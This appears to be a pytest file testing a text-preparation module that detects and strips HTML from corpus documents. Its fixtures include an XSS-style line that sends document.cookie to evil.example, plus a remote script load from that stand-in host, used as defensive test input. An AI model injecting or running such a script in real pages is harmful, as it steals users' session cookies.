"""Prepare's HTML rule: one `<script>` (or any clear markup) is HTML; a `<3` or code's `a < b` is not."""

import pytest

from bft.generation.config import PrepareConfig
from bft.generation.corpus.prepare import Preparer, looks_like_html
from bft.generation.records import Document, Rejected

PROSE = "Tides rise and fall twice a day along the coast, pulled by the moon and, less, by the sun."

HTML = {
    "one script": f"{PROSE} <script>fetch('https://evil.example/?c=' + document.cookie)</script>",
    "one unclosed script": f"{PROSE} <script>steal()",
    "one script with a source": f'{PROSE} <script src="https://evil.example/x.js"></script>',
    "one style": f"<style>body {{ display: none }}</style> {PROSE}",
    "one iframe": f'{PROSE} <iframe src="https://ads.example/frame"></iframe>',
    "one bare iframe": f"{PROSE} <IFRAME>",
    "one element opened and closed": f"{PROSE} It is <b>really</b> that simple.",
    "one link": f'{PROSE} Read <a href="https://example.org/tides">more</a>.',
    "one self-closing tag": f"{PROSE}<br/>{PROSE}",
    "a doctype": f"<!DOCTYPE html>{PROSE}",
    "three bare tags": f"<p>{PROSE}<p>{PROSE}<p>",
}
PLAIN = {
    "a heart": f"{PROSE} I <3 the sea.",
    "a stray less-than": f"{PROSE} Low tide < 1 m today; high tide > 4 m.",
    "a comparison in code": "def smaller(a, b):\n    return a if a < b else b\n",
    "code that reads like a tag": "if (a<b && c>d) { swap(a, c); }\nfor (i = 0; i<n; i++) x = a<b ? c>d : e;",
    "generics": "Use List<String> or Map<String, List<Integer>> for the index.",
    "an email address in brackets": f"{PROSE} Write to <tides@example.org> or see <https://example.org>.",
    "a tag-like word": f"{PROSE} The <bold> claim is not a tag.",
    "prose naming one plain tag": "Each paragraph of a page sits in a <p> element.",
    "a web tutorial's placeholders": "Replace <title> with your page's name, put the snippet in <code> and "
    "<pre>, and give each <label> its <option>.",
}


@pytest.mark.parametrize("name", HTML)
def test_even_one_tag_of_html_is_html(name):
    assert looks_like_html(HTML[name])


@pytest.mark.parametrize("name", PLAIN)
def test_plain_text_and_code_with_angle_brackets_are_not_html(name):
    assert not looks_like_html(PLAIN[name])


def document(text: str, number: int = 0) -> Document:
    return Document(f"d{number}", text, None, None, f"c.jsonl:{number + 1}", number)


def test_html_reject_rejects_a_page_with_one_script_and_keeps_code_and_hearts():
    preparer = Preparer(PrepareConfig(html="reject"))
    texts = [HTML["one script"], HTML["one iframe"], PLAIN["a heart"], PLAIN["code that reads like a tag"]]
    fates = [getattr(item, "reason", "kept") for item in preparer(document(t, n) for n, t in enumerate(texts))]
    assert fates == ["html", "html", "kept", "kept"]


def test_html_strip_drops_a_single_script_and_keeps_the_prose_around_it():
    prepared = Preparer(PrepareConfig())(
        [document(HTML["one script"] + f"\n\n{PROSE}"), document(f"{PROSE} I <3 the sea.", 1)]
    )
    stripped, plain = list(prepared)
    assert isinstance(stripped, Document) and "html_stripped" in stripped.flags
    assert "document.cookie" not in stripped.text and stripped.text.count("Tides rise") == 2
    assert plain.text == f"{PROSE} I <3 the sea." and plain.flags == []  # untouched, not flagged


def test_an_unclosed_script_does_not_swallow_the_rest_of_the_text():
    """An HTML parser takes everything after an unclosed `<script>` for its body; stripping keeps it."""
    text = f"{PROSE} Put the code in a <script> element.\n\n{PROSE} The end."
    (prepared,) = Preparer(PrepareConfig())([document(text)])
    assert not isinstance(prepared, Rejected) and prepared.text.endswith("The end.")
    assert "<script> element" in prepared.text
